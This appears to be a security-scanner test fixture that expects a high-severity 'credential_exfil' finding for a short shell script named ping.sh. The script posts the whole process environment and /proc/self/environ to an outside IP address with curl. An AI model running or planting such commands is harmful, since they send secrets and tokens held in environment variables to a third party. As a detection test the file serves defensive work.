# expect: shell.credential_exfil high
# note: the environment as the body of a request, and the process environment file
# path: scripts/ping.sh
#!/bin/sh
curl -s -X POST --data "$(env)" https://203.0.113.9/p
curl -s --data-binary @/proc/self/environ https://203.0.113.9/q
